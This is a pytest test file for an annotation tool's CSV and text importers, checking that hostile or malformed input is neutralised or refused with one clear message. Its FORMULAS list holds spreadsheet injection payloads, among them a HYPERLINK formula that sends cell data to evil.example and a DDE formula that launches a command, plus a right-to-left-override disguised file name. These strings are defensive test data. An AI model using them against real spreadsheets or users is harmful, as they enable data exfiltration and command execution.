"""Hostile and broken CSV and text files, and hostile file names: each is refused with one
clear sentence naming the file, or read exactly; nothing blocks, nothing runs in a spreadsheet.

Covers formula injection round trips, NUL bytes, runaway cells and files, CSV from other
locales (semicolons, Excel's "Unicode text"), mixed line endings, repeated columns, text
decoding edge cases, and names or file kinds meant to break messages or hang a read.
"""

from __future__ import annotations

import codecs
import csv
import os
import threading
import time
from pathlib import Path

import pytest
from csv_helpers import DANGEROUS_FORMS, looks_like_formula

from annotator.core.errors import InvalidInput
from annotator.io.sources.batch import import_files
from annotator.io.sources.decode import decode_text
from annotator.io.sources.extract import extract
from annotator.io.tables import csv_files
from annotator.io.tables.codebook_csv import export_codebook, import_codebook
from annotator.io.tables.csv_files import read_csv
from annotator.io.tables.segments_csv import export_segments, import_segments
from annotator.store import Project


def write(path: Path, data: bytes | str) -> Path:
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


# -- CSV ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-2", "\t=1", "'=", "''=x",
            "'plain", "=cmd|' /C calc'!A0", "\r=1"]  # fmt: skip


def codebook_snapshot(project: Project, tmp_path: Path) -> bytes:
    path = tmp_path / "snapshot.csv"
    export_codebook(project, path)
    return path.read_bytes()


def test_formula_cells_are_neutralised_on_export_and_exact_after_a_round_trip(
    project: Project, tmp_path: Path
) -> None:
    for i, value in enumerate(FORMULAS):
        project.add_code(f"Code {i}", definition=value, example=value)
    project.add_code("-2 +1 @x")  # a name that starts like a formula, too
    path = tmp_path / "codebook.csv"
    export_codebook(project, path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [
        cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]  # nothing a spreadsheet runs
    for value in FORMULAS:
        assert ("'" + value if value != "'plain" else value) in cells
    fresh = Project.create(tmp_path / "fresh.sqlite")
    import_codebook(fresh, path)
    assert sorted((c.name, c.definition, c.example) for c in fresh.codes()) == sorted(
        (c.name, c.definition, c.example) for c in project.codes()
    )
    fresh.close()


def test_formula_memo_survives_a_segments_round_trip(sample, tmp_path: Path) -> None:
    p = sample.project
    coding = p.codings(document_id=sample.speech.id)[0]
    for value in FORMULAS:
        p.update_coding(coding.id, memo=value)
        path = tmp_path / "s.csv"
        export_segments(p, path)
        p.update_coding(coding.id, memo="changed")
        with pytest.raises(
            InvalidInput, match="already exists in the project with different values"
        ):
            import_segments(p, path)  # the file's memo differs from "changed": it was read exactly
        p.update_coding(coding.id, memo=value)
        assert import_segments(p, path).skipped == len(p.codings())


def raw_cells(path: Path) -> list[list[str]]:
    """The file's records as a spreadsheet or pandas reads them (no formula guard undone)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, strict=True))


@pytest.mark.parametrize("value", DANGEROUS_FORMS.values(), ids=DANGEROUS_FORMS.keys())
def test_every_dangerous_form_is_inert_in_a_codebook_and_exact_after_import(
    project: Project, tmp_path: Path, value: str
) -> None:
    project.add_code(
        "Texts", definition=value, inclusion=value, exclusion="x" + value, example=value
    )
    project.add_code(
        value
    )  # stored with its white space collapsed, which may still look like a formula
    path = tmp_path / "codebook.csv"
    export_codebook(project, path)
    records = raw_cells(path)
    assert not [cell for record in records for cell in record if looks_like_formula(cell)]
    assert [record[10:] for record in records[1:]] == [
        ["0", "0"],
        ["0", "0"],
    ]  # counts stay plain numbers
    fresh = Project.create(tmp_path / "fresh.sqlite")
    import_codebook(fresh, path)
    fields = ("name", "definition", "inclusion", "exclusion", "example")
    assert sorted(tuple(getattr(c, f) for f in fields) for c in fresh.codes()) == sorted(
        tuple(getattr(c, f) for f in fields) for c in project.codes()
    )
    export_codebook(fresh, tmp_path / "again.csv")
    assert raw_cells(tmp_path / "again.csv") == records  # ids kept: the very same file
    fresh.close()


@pytest.mark.parametrize("value", DANGEROUS_FORMS.values(), ids=DANGEROUS_FORMS.keys())
def test_every_dangerous_form_is_inert_in_coded_segments_and_exact_after_import(
    project: Project, tmp_path: Path, value: str
) -> None:
    doc = project.add_document("Doc", "x" + value + "y")
    text = project.document_text(doc.id)  # line endings normalised: CR becomes LF
    code = project.add_code(value)
    coder = project.add_coder(value)
    project.add_coding(doc.id, code.id, coder.id, 1, len(text) - 1, memo=value)
    path = tmp_path / "segments.csv"
    export_segments(project, path)
    header, record = raw_cells(path)
    assert not [cell for cell in record if looks_like_formula(cell)]
    row = dict(zip(header, record, strict=True))
    assert (row["start"], row["end"]) == ("1", str(len(text) - 1))  # offsets stay plain numbers
    assert row["memo"] == "'" + value and row["text"] == "'" + text[1:-1]
    fresh = Project.create(tmp_path / "fresh.sqlite")
    fresh.add_document("Doc", text)
    report = import_segments(fresh, path, create_codes=True)
    assert (report.added, report.codes_created, report.coders_created) == (1, 1, 1)
    (coding,) = fresh.codings()
    assert (coding.memo, coding.start, coding.end) == (value, 1, len(text) - 1)
    assert [c.name for c in fresh.codes()] == [code.name] and [c.name for c in fresh.coders()] == [
        coder.name
    ]
    again = tmp_path / "again.csv"
    export_segments(fresh, again)
    assert [r[1:] for r in raw_cells(again)] == [r[1:] for r in (header, record)]  # all but the id
    fresh.close()


def test_nul_in_a_csv_is_refused_and_changes_nothing(sample, tmp_path: Path) -> None:
    before = codebook_snapshot(sample.project, tmp_path)
    path = write(tmp_path / "nul.csv", b"name,definition\r\nNew code,bad\x00cell\r\n")
    with pytest.raises(
        InvalidInput, match=r"^nul\.csv contains NUL characters \(the first on line 2\)"
    ):
        import_codebook(sample.project, path)
    assert codebook_snapshot(sample.project, tmp_path) == before


def test_a_coding_quoting_more_than_131072_characters_round_trips(
    project: Project, tmp_path: Path
) -> None:
    """The csv module refuses cells over 131,072 characters unless told otherwise; a coding
    of a whole long interview exports one."""
    text = "A long interview answer. " * 8000
    doc = project.add_document("Interview", text)
    code = project.add_code("Whole interview")
    coder = project.add_coder("Ann")
    project.add_coding(doc.id, code.id, coder.id, 0, len(text))
    path = tmp_path / "s.csv"
    export_segments(project, path)
    assert import_segments(project, path).skipped == 1


def test_a_runaway_cell_is_refused_clearly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """200 MB in one cell, scaled down: past the cell limit the file is refused, not held in memory."""
    monkeypatch.setattr(csv_files, "MAX_CELL_CHARS", 1000)
    path = write(tmp_path / "huge.csv", b'name,definition\r\nA,"' + b"x" * 5000 + b'"\r\n')
    with pytest.raises(
        InvalidInput, match=r"^huge\.csv, row 2 \(line 2\): a cell is longer than 1,000 characters"
    ):
        read_csv(path, one_of=("name",))


def test_a_runaway_first_line_does_not_break_delimiter_detection(tmp_path: Path) -> None:
    """Only the start of the first line is examined for the delimiter, without the csv module's
    default cell limit (131,072 characters) getting in the way."""
    path = write(tmp_path / "wide.csv", b'"' + b"x" * 300_000 + b'",name\r\nA,b\r\n')
    assert [r.get("name") for r in read_csv(path, one_of=("name",)).rows] == ["b"]
    path = write(tmp_path / "open.csv", b'"' + b"x" * 300_000 + b"\r\n")
    with pytest.raises(
        InvalidInput,
        match=r"^open\.csv, row 1 \(line 1\): not valid CSV \(unexpected end of data\)\.$",
    ):
        read_csv(path, one_of=("name",))


def test_an_absurdly_large_csv_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as fh:
        fh.truncate(300 * 1024 * 1024)  # sparse: nothing is written
    started = time.monotonic()
    with pytest.raises(
        InvalidInput,
        match=r"^big\.csv is too large to import \(314\.6 MB; the limit is 268 MB\)\.$",
    ):
        read_csv(path, one_of=("name",))
    assert time.monotonic() - started < 1


def test_semicolon_csv_from_european_excel_imports(project: Project, tmp_path: Path) -> None:
    data = (
        '\ufeffname;definition;color\r\nWährung;Geld, Kurse;#010203\r\nMärkte;"a;b";\r\n'.encode()
    )
    report = import_codebook(project, write(tmp_path / "excel.csv", data))
    assert report.created == 2
    assert sorted((c.name, c.definition) for c in project.codes()) == [
        ("Märkte", "a;b"),
        ("Währung", "Geld, Kurse"),
    ]
    assert project.find_code("Währung").color == "#010203"


def test_excel_sep_line_names_the_delimiter(project: Project, tmp_path: Path) -> None:
    data = b"sep=;\r\nname;definition\r\nOne;first, with a comma\r\n"
    import_codebook(project, write(tmp_path / "sep.csv", data))
    assert [(c.name, c.definition) for c in project.codes()] == [("One", "first, with a comma")]


def test_excel_unicode_text_utf16_tab_separated_imports(sample, tmp_path: Path) -> None:
    """Excel's "Unicode text" is UTF-16 LE with a byte-order mark, tab-separated."""
    p = sample.project
    start = p.document_text(sample.speech.id).index("global")
    rows = [
        "document\tcode_path\tcoder\tstart\tend\ttext",
        f"Speech\tNorms\tZoë\t{start}\t{start + 6}\tglobal",
    ]
    path = write(
        tmp_path / "unicode.csv", ("\ufeff" + "\r\n".join(rows) + "\r\n").encode("utf-16-le")
    )
    report = import_segments(p, path)
    assert (report.added, report.coders_created) == (1, 1)
    assert p.find_coder("Zoë") is not None


def test_utf16_csv_that_is_broken_after_its_mark_is_refused(tmp_path: Path) -> None:
    path = write(
        tmp_path / "broken.csv", codecs.BOM_UTF16_LE + "name\r\n".encode("utf-16-le") + b"\x00\xd8"
    )
    with pytest.raises(
        InvalidInput,
        match=r"^broken\.csv starts with a UTF-16 byte-order mark but is not valid UTF-16",
    ):
        read_csv(path, one_of=("name",))


def test_mixed_line_endings_read_every_row(tmp_path: Path) -> None:
    path = write(tmp_path / "mixed.csv", b'name,definition\r\nA,1\nB,2\rC,"multi\r\nline"\n\rD,4')
    table = read_csv(path, one_of=("name",))
    assert [(r.number, r.get("name"), r.get("definition")) for r in table.rows] == [
        (2, "A", "1"), (3, "B", "2"), (4, "C", "multi\r\nline"), (6, "D", "4"),
    ]  # fmt: skip


@pytest.mark.parametrize("header", ["name,Name", "name; definition ;Definition", "id\tname\t NAME"])
def test_a_header_naming_a_column_twice_is_refused(tmp_path: Path, header: str) -> None:
    with pytest.raises(
        InvalidInput, match=r"^dup\.csv, row 1: the column '\w+' appears twice in the header\.$"
    ):
        read_csv(
            write(tmp_path / "dup.csv", header + "\r\n"),
            known=("id", "definition"),
            one_of=("name",),
        )


def test_cell_values_quoted_in_messages_stay_on_one_line_and_short(
    project: Project, tmp_path: Path
) -> None:
    level = "1\n2\u202e" + "9" * 10_000
    path = write(tmp_path / "c.csv", f'name,level\r\nA,"{level}"\r\n')
    with pytest.raises(InvalidInput) as caught:
        import_codebook(project, path)
    message = str(caught.value)
    assert message.startswith(r"c.csv, row 2: level '1\n2\u202e999")
    assert message.endswith("…' is not a whole number.")
    assert len(message) < 150
    assert project.codes() == []


def test_a_folder_or_a_pipe_is_refused_as_csv_without_hanging(tmp_path: Path) -> None:
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    with pytest.raises(InvalidInput, match=r"^folder\.csv is a folder, not a file\.$"):
        read_csv(folder, one_of=("name",))
    if not hasattr(os, "mkfifo"):
        return
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    outcome: list[BaseException | None] = []

    def attempt() -> None:
        try:
            read_csv(fifo, one_of=("name",))
        except BaseException as err:  # reported to the test thread
            outcome.append(err)
        else:
            outcome.append(None)

    reader = threading.Thread(target=attempt, daemon=True)
    reader.start()
    reader.join(5)
    if reader.is_alive():  # blocked on the pipe: release it, then fail
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(5)
        pytest.fail("reading a named pipe as CSV blocked")
    assert isinstance(outcome[0], InvalidInput)
    assert str(outcome[0]) == "pipe.csv is not a regular file (it is a pipe, device or socket)."


# -- text decoding ------------------------------------------------------------------------


def test_one_stray_byte_in_a_large_utf8_file_changes_only_that_byte(tmp_path: Path) -> None:
    """A Windows-1252 apostrophe (0x92) pasted into 3 MB of UTF-8: the rest must not become
    mojibake ("Ελληνικά" read as "Î•Î»Î»"), and the note says where the odd byte was."""
    line = "Ελληνικά, русский, café, 日本語 — “quoted”.\n"
    data = (line * 40_000).encode() + b"It\x92s here.\n" + (line * 40_000).encode()
    text, notes = decode_text(data, "mostly.txt")
    assert text == line * 40_000 + "It\u2019s here.\n" + line * 40_000
    assert notes == [
        "decoded as UTF-8; 1 byte that is not UTF-8 (on line 40001) was read as Windows-1252"
    ]


def test_a_real_windows_1252_file_is_still_read_as_one() -> None:
    text, notes = decode_text("Café “naïve” — déjà vu, señor.".encode("cp1252"), "legacy.txt")
    assert text == "Café “naïve” — déjà vu, señor."
    assert notes == ["decoded as Windows-1252 (not UTF-8)"]


@pytest.mark.parametrize(
    "data",
    [
        codecs.BOM_UTF8 + b"abc\x00def",
        "\ufeffabc\x00\x00def".encode("utf-16-le"),
        "\ufeffabc\x00def".encode("utf-32-be"),
    ],
    ids=["utf-8", "utf-16", "utf-32"],
)
def test_byte_order_mark_followed_by_nul_characters_is_refused(data: bytes) -> None:
    """Without a mark a NUL already meant binary; with one, a few NULs used to slip into the text."""
    with pytest.raises(
        InvalidInput, match=r"^nul\.txt contains NUL characters \(the first on line 1\)"
    ):
        decode_text(data, "nul.txt")


def test_utf32_with_its_mark_reads_and_without_it_is_refused_as_binary() -> None:
    assert decode_text("\ufeffWörter 🤖".encode("utf-32-le"), "u.txt") == ("Wörter 🤖", [])
    with pytest.raises(
        InvalidInput, match=r"^u\.txt looks like a binary file \(it contains NUL bytes\)"
    ):
        decode_text("Wörter".encode("utf-32-le"), "u.txt")


def test_bytes_valid_as_both_utf16_and_windows_1252_follow_the_mark() -> None:
    """FF FE is 'ÿþ' in Windows-1252 and the UTF-16 LE mark: the mark wins. Without a mark and
    without NUL bytes, UTF-16 is never guessed (any even-length text would be valid UTF-16)."""
    assert decode_text(b"\xff\xfeH\x00i\x00", "marked.txt") == ("Hi", [])
    text, notes = decode_text(b"\xe9t\xe9 \xe0 Paris", "unmarked.txt")
    assert (text, notes) == ("été à Paris", ["decoded as Windows-1252 (not UTF-8)"])


def test_rtf_nul_escape_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match=r"^nul\.rtf contains a NUL character \(on line 1\)"):
        extract(write(tmp_path / "nul.rtf", r"{\rtf1\ansi Hello\u0?world}"))


# -- paths and file kinds ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("two\nlines.txt", r"two\nlines.txt"),
        ("invoice\u202etxt.exe", r"invoice\u202etxt.exe"),
        ("tab\tand\rreturn.txt", r"tab\tand\rreturn.txt"),
        ("bell\x07.txt", r"bell\x07.txt"),
    ],
)
def test_file_names_are_shown_on_one_line_in_their_real_order(
    tmp_path: Path, name: str, shown: str
) -> None:
    path = write(tmp_path / name, b"")
    with pytest.raises(InvalidInput) as caught:
        extract(path)
    message = str(caught.value)
    assert "\n" not in message and "\r" not in message and "\u202e" not in message
    assert message.startswith(shown + " ")


@pytest.mark.skipif(os.name != "posix", reason="POSIX file names are bytes")
def test_file_name_that_is_not_utf8_is_shown_with_its_byte(tmp_path: Path) -> None:
    path = Path(os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9.txt"))
    path.write_bytes(b"")
    with pytest.raises(InvalidInput) as caught:
        extract(path)
    assert str(caught.value) == r"caf\xe9.txt is empty."
    str(caught.value).encode("utf-8")  # printable to any UTF-8 console


def test_a_batch_reports_hostile_names_on_one_line(project: Project, tmp_path: Path) -> None:
    bad = write(tmp_path / "evil\nname.pdf", b"not a pdf")
    report = import_files(project, [bad])
    assert report.failed == [(bad, r"evil\nname.pdf is not a PDF file (it has no %PDF header).")]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_named_pipe_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    with pytest.raises(
        InvalidInput,
        match=r"^pipe\.txt is not a regular file \(it is a pipe, device or socket\)\.$",
    ):
        extract(fifo)


def test_a_device_with_a_forced_format_is_refused(tmp_path: Path) -> None:
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero")
    with pytest.raises(InvalidInput, match=r"^zero is not a regular file"):
        extract(Path("/dev/zero"), format="txt")


def test_a_folder_named_like_a_source_is_refused(tmp_path: Path) -> None:
    (tmp_path / "notes.docx").mkdir()
    with pytest.raises(InvalidInput, match=r"^notes\.docx is a folder, not a file\.$"):
        extract(tmp_path / "notes.docx")


def test_an_unforeseen_library_failure_is_one_sentence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from annotator.io.sources import markup as extract_markup

    def explode(data: bytes, name: str) -> None:
        raise TypeError("internal library detail\nwith a second line")

    monkeypatch.setattr(extract_markup, "extract_html", explode)
    with pytest.raises(
        InvalidInput,
        match=r"^page\.html cannot be read as HTML: it is damaged or unusual \(TypeError\)\.$",
    ):
        extract(write(tmp_path / "page.html", "<p>words</p>"))
